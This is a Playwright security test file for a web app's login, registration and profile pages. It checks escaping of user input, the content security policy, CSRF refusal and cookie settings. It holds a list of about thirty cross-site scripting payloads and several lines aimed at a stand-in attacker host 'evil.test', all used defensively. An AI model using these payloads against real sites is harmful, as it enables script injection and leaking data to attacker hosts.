import { deepEqual, equal, match, ok } from "node:assert/strict";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { fillForm, pageTest, recordProblems } from "../support/chromium.ts";
import { TIMEOUT } from "../support/timeouts.ts";
import { ann, bob } from "../support/people.ts";
import { BrowserServer, serve } from "../support/browser_server.ts";

// Attacks on the pages, in a real browser.

/** Each tries to run `alert` from a different context: text, attribute, title, URL, script. */
const payloads = [
  "<script>alert(1)</script>",
  '"><script>alert(1)</script>',
  "</title><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '" autofocus onfocus="alert(1)',
  "' autofocus onfocus='alert(1)",
  "<svg onload=alert(1)>",
  "<svg><script>alert&#40;1)</script>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  '<a href="javascript:alert(1)" autofocus>x</a>',
  "javascript:alert(1)",
  "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
  "<style>@import 'javascript:alert(1)'</style>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "`-alert(1)-`",
  "<!--><script>alert(1)//-->",
  "<x onclick=alert(1) style=position:fixed;inset:0>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<base href=//evil.test/>",
  "<form action=//evil.test><button>",
  "<textarea><!--",
  "]]><script>alert(1)</script>",
  "<object data=javascript:alert(1)>",
  "<script src=//evil.test/x.js></script>",
];

const somePayloads = payloads.filter((_, i) => i % 3 === 0);

/** Watches for dialogs, browser errors and policy reports: signs that a payload ran. */
function watch(page: Page, { world }: BrowserServer) {
  const problems = recordProblems(page);
  page.on("dialog", async (dialog) => {
    problems.push(`dialog: ${dialog.message()}`);
    await dialog.dismiss();
  });
  const reported = () => world.logged.filter((it) => it.event === "malicious_csp_violation");
  return () => deepEqual([problems, reported()], [[], []]);
}

async function logIn(page: Page, { origin }: BrowserServer, path = "/login") {
  await page.goto(origin + path);
  await page.getByLabel("Email address").fill(ann.email);
  await page.getByLabel("Password", { exact: true }).fill(ann.password);
  await page.getByRole("main").getByRole("button", { name: "Log in", exact: true }).click();
}

const browserOf = (page: Page) => page.context().browser() as Browser;

async function within(context: Promise<BrowserContext>, act: (page: Page) => Promise<void>) {
  const opened = await context;
  opened.setDefaultTimeout(TIMEOUT);
  await act(await opened.newPage());
  await opened.close();
}

pageTest("a name is shown as text, even if it is HTML [SEC-G1]", async (page) => {
  await using served = await BrowserServer.create();
  await logIn(page, served);
  const assertNothingRan = watch(page, served);

  for (const name of payloads) {
    await page.getByLabel("Name").fill(name);
    await page.getByRole("button", { name: "Save name" }).click();
    match(await page.getByRole("status").innerText(), /Your name has been saved/);
    equal(await page.getByLabel("Name").inputValue(), name);
    ok((await page.getByRole("navigation", { name: "Site" }).innerText()).includes(name), name);
    assertNothingRan();
  }
});

pageTest("an invalid email address is shown again as text [SEC-G1]", async (page) => {
  await using served = await BrowserServer.create();
  await page.goto(`${served.origin}/register`);
  const assertNothingRan = watch(page, served);

  for (const email of somePayloads) {
    await page.evaluate("document.querySelector('main form').noValidate = true");
    await page.getByLabel("Email address").fill(email);
    await page.getByRole("main").getByRole("button", { name: "Register" }).click();
    match(await page.locator("#email-problem").innerText(), /enter an email address/);
    assertNothingRan();
  }
});

pageTest(
  "`next` is shown as text, and never leads to another site [SEC-G1] [SEC-C16]",
  async (page) => {
    await using served = await BrowserServer.create();
    const assertNothingRan = watch(page, served);

    for (const next of [...somePayloads, "//evil.test", "/\\evil.test"]) {
      await page.goto(`${served.origin}/login?next=${encodeURIComponent(next)}`);
      equal(await page.locator("main form:has(#password) input[name=next]").inputValue(), next);
      assertNothingRan();
    }
    await within(browserOf(page).newContext(), async (page) => {
      await logIn(page, served, "/login?next=%2F%5Cevil.test");
      equal(page.url(), `${served.origin}/profile`);
    });
  },
);

pageTest("a script in the user agent does not run [SEC-G1]", async (page) => {
  await using served = await BrowserServer.create();

  for (const userAgent of payloads.slice(0, 4)) {
    await within(browserOf(page).newContext({ userAgent }), async (page) => {
      const assertNothingRan = watch(page, served);
      await logIn(page, served, "/login?next=%2Faccount%2Fsessions");
      equal(await page.locator("h1").innerText(), "Where you’re logged in");
      assertNothingRan();
    });
  }
});

pageTest(
  "the content security policy blocks and reports violations [SEC-F2] [SEC-F3]",
  async (page) => {
    await using served = await BrowserServer.create();
    await page.goto(`${served.origin}/login?next=%2Fsecret`);

    const writeHtml = "try { document.body.innerHTML = '<b>x</b>' } catch (e) { String(e) }";
    match(String(await page.evaluate(writeHtml)), /TrustedHTML/);
    await page.evaluate(
      "document.body.append(Object.assign(new Image(), { src: 'https://evil.test/x?y' }))",
    );
    const reported = () =>
      served.world.logged.filter((it) => it.event === "malicious_csp_violation");
    for (let i = 0; i < TIMEOUT / 20 && reported().length < 2; i++) {
      await new Promise((resolve) => setTimeout(resolve, 20)); // the browser sends reports later
    }
    deepEqual(
      reported().map(({ facts: { directive, blocked, page } }) => [directive, blocked, page])
        .sort(),
      [["img-src", "evil.test", "/login"], [
        "require-trusted-types-for",
        "trusted-types-sink",
        "/login",
      ]],
    );
  },
);

pageTest(
  "forms of other sites are refused and do not log the user out [SEC-E2] [SEC-E4]",
  async (page) => {
    await using served = await BrowserServer.create();
    await logIn(page, served);
    const attack = () =>
      new Response(
        `<form method="post" action="${served.origin}/logout"><button>Win a prize</button></form>`,
        { headers: { "content-type": "text/html" } },
      );

    for (const host of ["localhost", "127.0.0.1"] as const) {
      await using evil = serve(attack, host); // same-site, and cross-site
      await page.goto(evil.origin);
      await page.getByRole("button").click();
      equal(await page.locator("h1").innerText(), "Request refused");
    }
    await page.goto(`${served.origin}/profile`);
    equal(await page.locator("h1").innerText(), "Profile");
  },
);

pageTest(
  "the browser stores only cookies, and scripts cannot read them [SEC-D30]",
  async (page) => {
    await using served = await BrowserServer.create();
    await logIn(page, served, "/login?next=%2Faccount");

    const kept =
      "Promise.all([localStorage.length, sessionStorage.length, indexedDB.databases(), caches.keys(), document.cookie])";
    deepEqual(await page.evaluate(kept), [0, 0, [], [], ""]);
    const cookies = await page.context().cookies();
    ok(
      cookies.length > 0 &&
        cookies.every(({ httpOnly, sameSite }) => httpOnly && sameSite === "Lax"),
    );
  },
);

pageTest("every page works without scripts [SEC-F20]", async (page) => {
  await using served = await BrowserServer.create();

  await within(browserOf(page).newContext({ javaScriptEnabled: false }), async (page) => {
    const press = (name: string) => page.getByRole("main").getByRole("button", { name }).click();
    await page.goto(`${served.origin}/register`);
    await fillForm(page, bob);
    await press("Register");
    equal(await page.locator("h1").innerText(), "Profile");
    await page.goto(`${served.origin}/logout`);
    await press("Log out");
    match(await page.getByRole("status").innerText(), /You’ve been logged out/);
    await logIn(page, served, "/login?next=%2Faccount%2Fpassword");
    await page.getByLabel("Current password").fill(ann.password);
    await page.getByLabel("New password").fill("a heron stands in the reeds");
    await press("Change password");
    match(await page.getByRole("status").innerText(), /Your password has been changed/);
  });
});
